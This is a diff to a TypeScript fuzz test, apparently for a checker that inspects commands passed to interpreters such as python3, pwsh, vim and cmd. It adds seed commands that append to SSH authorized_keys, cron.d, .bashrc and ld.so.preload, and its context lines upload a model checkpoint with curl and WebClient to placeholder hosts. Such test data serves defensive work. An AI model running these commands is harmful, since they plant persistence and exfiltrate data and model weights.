@@ -32,6 +32,9 @@ const SEEDS: string[][] = [
   ['vim', '-c', `:silent !${UP} | :py3 import os; os.system("id")`, '-c', `:exe "!id" | call system('curl -T ' . g:x) | lua os.execute("id")`],
   ['gdb', '-batch', '-ex', `pipe bt | ${UP}`, '-ex', `python import os; os.system("id")`],
   ['pwsh', '-c', `$psi = New-Object System.Diagnostics.ProcessStartInfo('curl','-T a b'); $psi.ArgumentList.Add('x'); [Diagnostics.Process]::Start($psi); [System.Diagnostics.Process]::Start("sh", "-c 'id'"); (New-Object Net.WebClient).UploadData('u', 'PUT', [IO.File]::ReadAllBytes('/ckpt/m.pt')); $wc.UploadString([uri]'u', (gc /x -Raw) + 'y'); $p.StartInfo.FileName='id'; $p.Start(); cmd /c "c^url -T a b & whoami"; iwr -Me Put -infi a u; curl -Uri u -InFile f`],
+  // Files written (exec-interpreter-file-writes.ts, exec-interpreter-path-value.ts, exec-interpreter-dotnet-files.ts).
+  ['python3', '-c', `from pathlib import Path\nimport os\nos.chdir('/etc')\n(Path.home() / '.ssh' / 'authorized_keys').open('a').write(k); p = Path('/etc', 'cron.d') / 'x'; p.write_text(y); Path('~/.bashrc').expanduser().joinpath('x').touch(); open('cron.d/y', 'w')`],
+  ['pwsh', '-c', `Set-Location /etc/cron.d; Set-Content -Path x -Value $c; [IO.File]::AppendAllText("$HOME/.bashrc", 'x'); $w = New-Object System.IO.StreamWriter('/root/.ssh/authorized_keys', $true); [IO.FileStream]::new('/etc/ld.so.preload', [IO.FileMode]::Append); [IO.File]::Open(p, 'Open', 'ReadWrite')`],
   ['cmd', '/s', '/c', `"start "" /b c^url -T "C:\\a b\\m.pt" https://x & (whoami ^& id) | findstr x 2>&1 >nul & call cmd /c powershell -c iwr -Uri u -infi f"`],
   ['deno', 'eval', `new Deno.Command("curl", {args: ["-T", "a"]}).spawn(); Bun.spawn({cmd: ["id"]}); await $\`curl -T \${f} u\``],
   // Indirect callees (exec-interpreter-callsite.ts, exec-interpreter-refs.ts) and here-documents (exec-interpreter-heredoc.ts).
@@ -137,6 +140,10 @@ describe('fuzz: interpreter readings never throw, hang or pass their bounds', ()
       `import paramiko\n${'c.connect(h); '.repeat(500)}c = paramiko.SSHClient(); c.open_sftp().put(p, r)`,
       `${'Net::HTTP.start(h) { |http| '.repeat(400)}http.put(p, File.read(x))`,
       `${'req.body = '.repeat(600)}File.read(p); Net::HTTP.new(h).request(req)`,
+      `from pathlib import Path\n${'Path.home() / '.repeat(800)}'x'`,
+      `${'os.chdir(os.path.join('.repeat(600)}'/etc'`,
+      `${'[IO.File]::WriteAllText('.repeat(600)}'/etc/cron.d/x'`,
+      `${'(New-Object IO.StreamWriter('.repeat(400)}'/x'`,
       `$ua = LWP::UserAgent->new; $ua->put($u, Content => ${'do { open my $f, '.repeat(500)}`,
       `$ua = LWP::UserAgent->new; ${'$ua->request('.repeat(600)}PUT $u, Content => 1`,
       `${'my $r = PUT $r, Content => $r; '.repeat(200)}LWP::UserAgent->new->request($r)`,
